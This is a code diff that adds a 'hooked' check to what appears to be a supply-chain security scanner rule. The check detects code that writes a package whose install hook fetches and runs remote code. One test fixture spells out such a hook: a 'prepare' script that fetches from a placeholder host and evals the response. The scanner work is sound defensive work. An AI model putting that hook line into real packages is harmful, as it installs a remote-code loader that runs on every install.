@@ -1,5 +1,5 @@
 import { besideOf } from '../src/define/beside.js';
-import { harmOf, scriptIn } from '../src/define/left.js';
+import { harmOf, isHooked, scriptIn } from '../src/define/left.js';
 import { registryIn } from '../src/define/registries.js';
 import { isUnasked } from '../src/define/unasked.js';
 import { defineRule, spelling, step, stepsOf } from '../src/define.js';
@@ -28,6 +28,7 @@ export default defineRule({
       beside: 'Writes into a package beside it or one that it looks up: {path}',
       infects: 'Writes code that talks to other machines or runs text into another package: {path}',
       harmful: 'Writes to {what} a line that {says}',
+      hooked: 'Writes down a package whose installation fetches and runs code',
       scripted: 'Writes a script for a shell that {says}, as soon as it is {moment}',
       registry: 'Has packages fetched from {registry} from now on, unasked',
       restores: 'Sets a file’s times back after changing it',
@@ -49,6 +50,7 @@ export default defineRule({
       beside: 1.5,
       infects: 12,
       harmful: 13.5,
+      hooked: 13.5,
       scripted: 13.5,
       registry: 13.5,
       restores: 5,
@@ -56,6 +58,13 @@ export default defineRule({
   },
   examples: {
     flags: [
+      {
+        title: 'a package is put into the project that fetches as soon as it is installed',
+        files: {
+          'package.json': `{"name":"tidy","version":"1.0.0","main":"index.js"}`,
+          'index.js': `const fs = require('fs');\nfs.writeFileSync('.cache/tidy/package.json', JSON.stringify({ name: 'tidy-cache', version: '0.0.0', scripts: { prepare: 'node -e "fetch(\`https://stage.invalid/p\`).then(r => r.text()).then(eval)"' } }));`,
+        },
+      },
       {
         title: 'each program of Node.js loads a file first',
         files: {
@@ -155,6 +164,13 @@ export default defineRule({
     ],
     passes: [
       {
+        title: 'a scaffolder writes down a package that builds itself',
+        files: {
+          'package.json': `{"name":"tidy","version":"1.0.0","main":"index.js"}`,
+          'index.js': `const fs = require('fs');\nexports.create = name => fs.writeFileSync(name + '/package.json', JSON.stringify({ name, version: '0.0.0', homepage: 'https://tidy.invalid', scripts: { prepare: 'npm run build', build: 'tsc' } }));`,
+        },
+      },
+      {
         title: 'the hook that is written runs the project’s own',
         files: {
           'package.json': `{"name":"hooksy","version":"1.0.0","scripts":{"postinstall":"node index.js"}}`,
@@ -235,6 +251,13 @@ export default defineRule({
           messageId: 'registry',
           data: { registry },
           chain: [step('sink', `writes with ${call.name}`, context.file, call.node)],
+        });
+        continue;
+      }
+      if (text && isHooked(context, path, text) && context.moment !== 'test') {
+        context.report({
+          messageId: 'hooked',
+          chain: [step('sink', `writes it with ${call.name}`, context.file, call.node)],
         });
         continue;
       }
